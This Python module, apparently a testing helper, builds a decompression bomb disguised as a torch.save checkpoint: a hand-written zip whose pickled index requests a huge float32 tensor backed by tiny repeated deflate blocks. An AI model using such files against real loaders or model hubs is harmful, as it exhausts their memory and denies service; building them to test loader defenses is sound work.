"""A deflate bomb shaped like a ``torch.save`` file, built without ever holding its payload.

``bomb(n_mib)`` is a zip with torch's layout whose one tensor record, ``archive/data/0``,
is ``n_mib`` MiB of float32 zeros compressed with deflate level 9, and whose pickled index
asks for a tensor of exactly that many values: ``torch.load(..., weights_only=True)``
inflates all of it (a 1 GiB bomb is a 1 MB file). The compressed stream is one 1 MiB
block of zeros, flushed with ``Z_FULL_FLUSH`` (so it stands alone), repeated ``n_mib``
times; the zip is written by hand because :mod:`zipfile` only writes what it compresses
itself.
"""

from __future__ import annotations

import collections
import io
import pickle
import struct
import zipfile
import zlib

import torch

MIB = 1 << 20


def _deflated_zeros(n_mib: int) -> bytes:
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    one_mib = block.compress(bytes(MIB)) + block.flush(zlib.Z_FULL_FLUSH)
    return one_mib * n_mib + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def _zeros_crc(n_mib: int) -> int:
    crc, block = 0, bytes(MIB)
    for _ in range(n_mib):
        crc = zlib.crc32(block, crc)
    return crc


class _Storage:
    def __init__(self, numel: int) -> None:
        self.numel = numel


class _Tensor:
    """Pickles as torch does a 1-D float32 tensor over storage "0" of ``numel`` values."""

    def __init__(self, numel: int) -> None:
        self.storage = _Storage(numel)

    def __reduce__(self):
        shape, stride = (self.storage.numel,), (1,)
        args = (self.storage, 0, shape, stride, False, collections.OrderedDict())
        return (torch._utils._rebuild_tensor_v2, args)


class _Pickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, _Storage):  # torch.save's reference to a storage record
            return ("storage", torch.FloatStorage, "0", "cpu", obj.numel)
        return None


def _zip(records: dict[str, tuple[int, bytes, int, int]]) -> bytes:
    """A zip of ``name -> (method, stored bytes, crc32, uncompressed size)``."""
    out, central = bytearray(), bytearray()
    for name, (method, data, crc, size) in records.items():
        encoded, offset = name.encode(), len(out)
        sizes = (crc, len(data), size, len(encoded), 0)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, *sizes)
        out += encoded + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, *sizes, 0, 0, 0, 0, offset
        )
        central += encoded
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(records), len(records), len(central), len(out), 0
    )
    return bytes(out + central + end)


def bomb(n_mib: int, key: str = "weights") -> bytes:
    """A ``torch.save``-shaped file of ``{key: zeros(n_mib MiB / 4)}``, deflated (≈1 kB/MiB)."""
    index = io.BytesIO()
    _Pickler(index, protocol=2).dump({key: _Tensor(n_mib * MIB // 4)})

    def stored(data: bytes) -> tuple[int, bytes, int, int]:
        return (0, data, zlib.crc32(data), len(data))

    return _zip(
        {
            "archive/data.pkl": stored(index.getvalue()),
            "archive/byteorder": stored(b"little"),
            "archive/version": stored(b"3\n"),
            "archive/data/0": (
                zipfile.ZIP_DEFLATED,
                _deflated_zeros(n_mib),
                _zeros_crc(n_mib),
                n_mib * MIB,
            ),
        }
    )
